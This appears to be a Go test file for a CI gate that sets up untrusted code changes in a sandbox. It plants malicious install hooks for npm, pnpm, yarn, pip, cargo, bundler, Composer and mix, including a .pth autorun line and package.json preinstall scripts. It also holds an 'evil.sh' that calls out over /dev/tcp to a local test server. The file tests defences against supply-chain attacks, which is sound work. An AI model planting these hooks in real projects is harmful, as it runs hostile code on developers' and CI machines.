@@ -1,0 +1,258 @@
+package gate
+
+import (
+	"archive/zip"
+	"bytes"
+	"fmt"
+	"maps"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"slices"
+	"strings"
+	"sync/atomic"
+	"testing"
+	"time"
+
+	"github.com/ycbot/ycbot/internal/evidence"
+	"github.com/ycbot/ycbot/internal/workspace"
+	"github.com/ycbot/ycbot/test/bench"
+)
+
+// An index is a registry of the operator's, of npm's and of Python's packages, which also
+// counts whom it is asked by that is no package manager: code of the head, at a time when
+// it can send something out.
+type index struct {
+	*registry
+	own   *httptest.Server
+	wheel []byte
+	evil  atomic.Int32
+}
+
+func newIndex(t *testing.T) *index {
+	t.Helper()
+	x := &index{registry: newRegistry(t), wheel: wheel(t)}
+	x.own = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/evil":
+			x.evil.Add(1)
+		case "/simple/tiny/":
+			w.Header().Set("Content-Type", "text/html")
+			fmt.Fprint(w, `<a href="/files/tiny-1.0.0-py3-none-any.whl">tiny-1.0.0-py3-none-any.whl</a>`)
+		case "/files/tiny-1.0.0-py3-none-any.whl":
+			_, _ = w.Write(x.wheel)
+		default:
+			http.NotFound(w, r)
+		}
+	}))
+	t.Cleanup(x.own.Close)
+	return x
+}
+
+// wheel is that of tiny, which leaves a line that Python runs when it starts.
+func wheel(t *testing.T) []byte {
+	t.Helper()
+	var b bytes.Buffer
+	z := zip.NewWriter(&b)
+	const info = "tiny-1.0.0.dist-info/"
+	for _, f := range [][2]string{
+		{"tiny.py", "one = 1\n"}, {"tiny.pth", "import os; os.path.exists('evil.sh') and os.system('bash evil.sh')\n"},
+		{info + "METADATA", "Metadata-Version: 2.1\nName: tiny\nVersion: 1.0.0\n"},
+		{info + "WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n"},
+		{info + "RECORD", "tiny.py,,\ntiny.pth,,\n" + info + "METADATA,,\n" + info + "WHEEL,,\n" + info + "RECORD,,\n"},
+	} {
+		w, err := z.Create(f[0])
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := w.Write([]byte(f[1])); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := z.Close(); err != nil {
+		t.Fatal(err)
+	}
+	return b.Bytes()
+}
+
+// An assault is a change that has a package manager run a program of the head in setup.
+type assault struct {
+	needs    string // programs
+	base     map[string]string
+	head     map[string]string // beside those of the base
+	setup    []string          // of the configuration
+	unharmed bool              // with a head that is not trusted setup succeeds all the same
+}
+
+func (x *index) assaults() map[string]assault {
+	npm := func(manager string, more map[string]string) assault {
+		base := map[string]string{}
+		for name, data := range x.project(manager, "1.0.0") {
+			base[name] = string(data)
+		}
+		head := map[string]string{"package.json": strings.Replace(base["package.json"], `"scripts": {`, `"scripts": {"preinstall": "bash evil.sh", `, 1)}
+		maps.Copy(head, more)
+		return assault{needs: "node npm " + manager, base: base, head: head, unharmed: true}
+	}
+	python := map[string]string{"requirements.txt": "tiny==1.0.0\n", "test_a.py": "import unittest\nclass A(unittest.TestCase):\n    def test(self):\n        import tiny\n"}
+	lib := map[string]string{"src/lib.rs": "", "Cargo.toml": "[package]\nname = \"a\"\nversion = \"0.1.0\"\n", "Cargo.lock": "version = 3\n\n[[package]]\nname = \"a\"\nversion = \"0.1.0\"\n"}
+	ruby := map[string]string{"Gemfile": "source 'https://rubygems.org'\n", "test/a_test.rb": "\n"}
+	mix := "defmodule A.MixProject do\n  use Mix.Project\n  def project, do: [app: :a, version: \"0.1.0\", deps: []]\nend\n"
+	composer := map[string]string{
+		"phpunit.xml": "<phpunit/>", "composer.json": `{"name": "a/a", "description": "tested with phpunit", "require": {}}`,
+	}
+	return map[string]assault{
+		"npm":  npm("npm", map[string]string{".npmrc": "ignore-scripts=false\nscript-shell=./evil.sh\ngit=./evil.sh\nnode-options=--require=./evil.js\n"}),
+		"pnpm": npm("pnpm", map[string]string{".npmrc": "ignore-scripts=false\nignore-pnpmfile=false\n", ".pnpmfile.cjs": "require('child_process').execFileSync('bash', ['evil.sh'])\nmodule.exports = {}\n"}),
+		"yarn": npm("yarn", map[string]string{".yarnrc": "yarn-path \"./evil.js\"\n", "evil.js": "require('child_process').execFileSync('bash', ['evil.sh'])\n"}),
+		"npm, git": {
+			needs: "node npm git", base: map[string]string{"package.json": `{"name": "m", "version": "1.0.0", "scripts": {"test": "true"}, "dependencies": {"x": "file:x"}}`, "x/package.json": `{"name": "x", "version": "1.0.0"}`},
+			head: map[string]string{".npmrc": "git=./evil.sh\n", "package.json": `{"name": "m", "version": "1.0.0", "scripts": {"test": "true"}, "dependencies": {"x": "git+https://127.0.0.1:1/x.git"}}`},
+		},
+		"pip": {
+			needs: "python3", base: python, unharmed: true,
+			head: map[string]string{"requirements.txt": "tiny==1.0.0\n--no-binary=:all:\n", "pip.py": runEvil, "venv.py": runEvil, "ensurepip/__main__.py": runEvil, "sitecustomize.py": runEvil},
+		},
+		"pip, back end": {needs: "python3", base: python, head: map[string]string{"requirements.txt": "tiny==1.0.0\n-e ./a\n", "a/setup.py": runEvil, "a/evil.sh": ""}},
+		"cargo":         {needs: "cargo", base: lib, head: map[string]string{".cargo/config.toml": "[build]\nrustc = \"./evil.sh\"\nrustc-wrapper = \"./evil.sh\"\n", "build.rs": ""}, unharmed: true},
+		"bundler":       {needs: "ruby bundle", base: ruby, head: map[string]string{"Gemfile": "system('bash evil.sh')\n" + ruby["Gemfile"]}, unharmed: true},
+		"Composer": {
+			needs: "php composer", base: composer, unharmed: true,
+			head: map[string]string{"composer.json": `{"name": "a/a", "description": "tested with phpunit", "require": {}, "scripts": {"post-autoload-dump": "bash evil.sh"}}`},
+		},
+		"mix": {needs: "elixir mix", base: map[string]string{"mix.exs": mix, "mix.lock": "%{}\n"}, head: map[string]string{"mix.exs": "System.cmd(\"bash\", [\"evil.sh\"])\n" + mix}},
+	}
+}
+
+const runEvil = "import os\nos.system('bash evil.sh')\n"
+
+// Setup of a head that is not trusted runs nothing that the head names while anything can
+// be reached: tried with each package manager itself, whose settings, manifests or hooks
+// have it run a program that asks the operator's registry. With the network of a trusted
+// head each of these programs gets there.
+func TestSetupRunsNothingOfTheHead(t *testing.T) {
+	t.Parallel()
+	for name := range (&index{registry: &registry{Server: &httptest.Server{}}}).assaults() {
+		t.Run(name, func(t *testing.T) {
+			t.Parallel()
+			x := newIndex(t)
+			for network, open := range map[Network]bool{NetworkSetup: true, NetworkRegistries: false} {
+				x.try(t, name, x.assaults()[name], network, open)
+			}
+		})
+	}
+}
+
+// Commands of the configuration are the base's words, and what they do is the head's: they
+// have no network, and find what was fetched before them.
+func TestConfiguredSetupOfAStranger(t *testing.T) {
+	t.Parallel()
+	x := newIndex(t)
+	npm := x.assaults()["npm"]
+	npm.setup = []string{"npm ci --no-audit --no-fund", "bash setup.sh"}
+	npm.base["setup.sh"] = "test -f node_modules/tiny/index.js\n"
+	npm.head["setup.sh"] = npm.base["setup.sh"] + "bash evil.sh\n"
+	for network, open := range map[Network]bool{NetworkSetup: true, NetworkRegistries: false} {
+		x.try(t, "npm", npm, network, open)
+	}
+}
+
+func (x *index) try(t *testing.T, name string, a assault, network Network, open bool) {
+	t.Helper()
+	path := systemPath()
+	if runners, err := bench.Runners(t.Context()); err == nil {
+		path += ":" + filepath.Join(runners, ".bin")
+	}
+	home := t.TempDir()
+	at := strings.TrimPrefix(x.own.URL, "http://")
+	host, port, _ := strings.Cut(at, ":")
+	lay(t, home, map[string][]byte{".npmrc": []byte("registry=" + x.URL + "/\n")})
+	tools := &Toolchains{env: []string{"PATH=" + path, "HOME=" + home, "PIP_INDEX_URL=" + x.own.URL + "/simple", "PIP_TRUSTED_HOST=" + host}}
+	if user, err := os.UserHomeDir(); err == nil {
+		tools.env = append(tools.env, "RUSTUP_HOME="+filepath.Join(user, ".rustup"))
+	}
+	for program := range strings.FieldsSeq(a.needs) {
+		if !tools.has(program) {
+			t.Skipf("%s: %s is needed", name, program)
+		}
+	}
+	box := fullSandboxOf(t, path)
+	evil := fmt.Sprintf("#!/bin/bash\nexec 3<>/dev/tcp/%s/%s && printf 'GET /evil HTTP/1.0\\r\\nHost: x\\r\\n\\r\\n' >&3 && cat <&3\nexit 0\n", host, port)
+	s := &scenario{base: map[string][]byte{}, head: map[string][]byte{}, input: map[string][]string{}}
+	for file, text := range a.base {
+		s.base[file], s.head[file] = []byte(text), []byte(text)
+	}
+	for file, text := range a.head {
+		if path := []byte(text); filepath.Base(file) != "evil.sh" {
+			s.head[file] = path
+		}
+	}
+	s.head["evil.sh"], s.head["a/evil.sh"] = []byte(evil), []byte(evil)
+	log := prepared(t, tools, s, a.setup, func(g *Gate) { g.Sandbox, g.Network = box, network })
+	if got := x.evil.Swap(0) > 0; got != open {
+		t.Errorf("%s, %s: a program of the head could send something: %v", name, network, got)
+		show := func(r evidence.Record, o evidence.Output) string { b, _ := log.Output(o); return string(b) }
+		for _, r := range log.Records() {
+			t.Logf("%s %s exit %d %+v\n%s%s", r.Task, r.Command, r.Exit, r.Hosts, show(r, r.Stdout), show(r, r.Stderr))
+		}
+	}
+	if open || !a.unharmed {
+		return
+	}
+	for _, r := range log.Records() {
+		if strings.HasSuffix(r.Task, "/setup") && r.Exit != 0 {
+			out, _ := log.Output(r.Stdout)
+			more, _ := log.Output(r.Stderr)
+			t.Errorf("%s: %s %s: exit %d\n%s%s\n%+v", name, r.Task, r.Command, r.Exit, out, more, r.Hosts)
+		}
+	}
+}
+
+// prepared sets a change up, and returns the log.
+func prepared(t *testing.T, tools *Toolchains, s *scenario, setup []string, settings func(*Gate)) *evidence.Log {
+	t.Helper()
+	w := &world{git: testGit(t), tools: tools, cache: t.TempDir(), shared: t.TempDir()}
+	dir := t.TempDir()
+	mirror, ch := w.repository(t, s, dir)
+	in := Input{Change: ch, Commands: Commands{Setup: setup, Build: []string{}, Lint: []string{}}, BaseCommands: true}
+	for side, commit := range map[**workspace.Tree]string{&in.Base: ch.MergeBase, &in.Head: ch.HeadSHA} {
+		tree, err := mirror.Worktree(t.Context(), filepath.Join(dir, "trees", commit[:7]), commit)
+		if err != nil {
+			t.Fatal(err)
+		}
+		t.Cleanup(func() { tree.Close() })
+		*side = tree
+	}
+	log, err := evidence.Open(filepath.Join(dir, "run"), "r", evidence.Options{Now: time.Now})
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { log.Close() })
+	g := &Gate{Log: log, Mirror: mirror, Tools: tools, CacheDir: w.cache, Shared: w.shared, Scratch: filepath.Join(dir, "scratch"), Now: time.Now}
+	settings(g)
+	if err := g.Prepare(t.Context(), in); err != nil {
+		t.Fatal(err)
+	}
+	return log
+}
+
+// docs/security.md has the table of package managers as the code has it, and each of them
+// has an attack or is said to be untested.
+func TestManagersAreDocumented(t *testing.T) {
+	t.Parallel()
+	page, err := os.ReadFile("../../docs/security.md")
+	if err != nil {
+		t.Fatal(err)
+	}
+	rows := strings.Split(string(page), "\n")
+	for _, m := range managers() {
+		tried := "untested"
+		if m.attack != "" {
+			tried = "`" + m.attack + "`"
+		}
+		if row := fmt.Sprintf("| %s | %s | %s | %s |", m.name, m.surfaces, m.closed, tried); !slices.Contains(rows, row) {
+			t.Errorf("docs/security.md lacks the row\n%s", row)
+		}
+	}
+}
